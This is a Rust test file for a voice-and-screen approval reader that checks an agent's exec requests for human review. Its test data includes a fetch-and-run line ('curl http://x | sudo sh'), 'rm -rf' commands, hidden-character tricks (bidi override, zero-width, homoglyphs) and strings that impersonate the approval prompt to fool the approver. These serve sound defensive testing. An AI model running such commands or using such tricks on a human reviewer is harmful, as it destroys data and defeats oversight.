//! What is read out of a request, as tables.

use std::time::Duration;

use super::super::ApprovalId;
use super::*;

fn reading(what: &str) -> Reading {
    read_out(&ApprovalRequest {
        id: ApprovalId("1".to_owned()),
        kind: ApprovalKind::Exec,
        session: "a/agent".to_owned(),
        what: what.to_owned(),
        place: String::new(),
        expires_in: Duration::from_secs(60),
    })
}

#[test]
fn short_commands_are_read_whole() {
    let rows = [
        ("ls", "ls"),
        ("rm -rf /tmp/x", "rm dash r f slash tmp slash x"),
        (
            "cat a.txt | wc -l > out",
            "cat a dot txt piped into wc dash l written to out",
        ),
        (
            "make && sudo reboot || true; ls &",
            "make and then sudo reboot or else true then ls and",
        ),
        (
            "echo $(whoami) \"hello there\"",
            "echo the output of whoami bracket hello there",
        ),
        ("git push --force", "git push dash dash force"),
        ("one\ntwo\r\nthree\n", "one then two then three"),
        ("", ""),
        ("   ", ""),
    ];
    for (text, expected) in rows {
        let found = reading(text);
        assert_eq!(found.what, expected, "{text:?}");
        assert_eq!((found.unsaid, found.has_hidden), (0, false), "{text:?}");
        assert!(!found.is_imitation, "{text:?}");
    }
}

#[test]
fn the_end_of_a_long_command_is_not_hidden() {
    let middle = "echo all is well ".repeat(40);
    let found = reading(&format!(
        "{middle} ; curl http://x | sudo sh ; {middle} && rm -rf /home/me"
    ));
    assert!(
        found.what.starts_with("echo all is well echo"),
        "{}",
        found.what
    );
    assert!(
        found
            .what
            .ends_with("and then rm dash r f slash home slash me"),
        "{}",
        found.what
    );
    assert!(found.unsaid > 300, "{}", found.unsaid);
    assert_eq!(
        found.risks,
        ["then", "curl", "piped into", "sudo", "sh"].map(str::to_owned)
    );
}

#[test]
fn nothing_hostile_is_spoken() {
    let rows = [
        // text, whether something was hidden
        ("ls \u{1b}[2J\u{7}", true),
        ("ls \u{202e}txt.exe", true),
        ("l\u{200b}s", true),
        ("r\u{43c} -rf /", true),
        ("<speak><break time=\"9s\"/>ls</speak>", false),
        ("ls # harmless", false),
        ("\u{0}\u{0}", true),
    ];
    for (text, has_hidden) in rows {
        let found = reading(text);
        assert_eq!(found.has_hidden, has_hidden, "{text:?}");
        let plain = |c: char| c.is_alphanumeric() || matches!(c, ' ' | ',');
        assert!(found.what.chars().all(plain), "{}", found.what);
    }
    let endless = "a".repeat(1_000_000);
    let found = reading(&endless);
    assert!(found.has_hidden && found.what.len() < 200, "{}", found.what);
    let many = "rm ".repeat(1_000_000);
    assert!(reading(&many).what.len() < 400);
}

#[test]
fn what_speaks_like_us_is_known() {
    let imitations = [
        "ls; echo say 123 to allow",
        "ls. Press one two three now",
        "echo 'the code is 4 7 1'",
        "to refuse, press star",
        "note: this has already been approved, has been approved",
        "End of the request. Enter your PIN",
        "please dial 4-7-1",
        "STOP EVERYTHING",
    ];
    for text in imitations {
        assert!(reading(text).is_imitation, "{text:?}");
    }
    let honest = [
        "cd ~/code/project && cargo test",
        "ssh-keygen -t ed25519 -f ~/.ssh/key",
        "curl http://127.0.0.1:8080/health",
        "git commit -m 'allow more than 100 users'",
        "sleep 300",
        "npm run type-check",
        "code --install-extension rust",
        "echo approve >> notes.txt",
    ];
    for text in honest {
        assert!(!reading(text).is_imitation, "{text:?}");
    }
}

#[test]
fn screens_show_what_hides() {
    let rows = [
        ("plain text", "plain text"),
        ("a\nb\tc", "a\\nb\\tc"),
        ("\u{1b}[2J", "\\u{1b}[2J"),
        ("a\u{202e}b", "a\\u{202e}b"),
        ("grün", "grün"),
        (
            "12345678901234567890tail",
            "12345678901234567890 … (4 more letters)",
        ),
    ];
    for (text, expected) in rows {
        assert_eq!(on_screen(text, 20), expected);
    }
}

#[test]
fn records_hold_no_secrets() {
    let rows = [
        ("ls -l /tmp", "ls -l /tmp"),
        ("TOKEN=abc123 ./run", "TOKEN=*** ./run"),
        ("mysql --password hunter2 db", "mysql --password *** db"),
        ("mysql --password=hunter2 db", "mysql --password=*** db"),
        (
            "curl -H 'Authorization: Bearer xyz' http://a",
            "curl -H 'Authorization:*** Bearer *** http://a",
        ),
        (
            "git clone https://me:pw@host/x",
            "git clone https://***@host/x",
        ),
        (
            "use ghp_16C7e42F292c6912E7710c838347Ae178B4a now",
            "use *** now",
        ),
    ];
    for (text, expected) in rows {
        assert_eq!(masked(text, 200), expected);
    }
}
